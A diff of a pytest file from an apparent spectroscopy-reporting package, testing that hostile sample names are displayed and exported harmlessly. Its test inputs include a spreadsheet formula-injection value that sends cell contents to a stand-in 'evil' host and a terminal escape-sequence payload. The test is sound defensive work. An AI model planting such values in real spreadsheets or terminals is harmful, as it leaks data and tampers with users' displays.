@@ -6,8 +6,9 @@ import pytest
 from firstshell.measured.read import read_samples
 from firstshell.prediction.answer import answer
 from firstshell.report.answer_table import write_table
-from firstshell.report.answer_words import line, paragraph
 from firstshell.report.figures.answer import save_pictures
+from firstshell.report.words.answer import line, paragraph
+from firstshell.runtime.console import plain
 from quick import write_xdi
 
 NAMES = ["$\\frac{1$ oxide", '=HYPERLINK("http://evil/?"&A1,"x")', "\x1b]0;PWNED\x07\x1b[31mred"]
@@ -24,7 +25,7 @@ def test_a_name_is_shown_and_does_nothing(name, xanes_model, tmp_path):
     (cell,) = pd.read_csv(csv)["sample"]
     shown = paragraph(found[0]) + line(found[0])
     assert "\x1b" not in shown + (tmp_path / "out" / "sample_01.svg").read_text(encoding="utf-8")
-    assert cell == (f"'{name}" if name.startswith("=") else name)
+    assert cell == (f"'{name}" if name.startswith("=") else plain(name))
     assert name in shown or "\\x1b" in shown
 
 
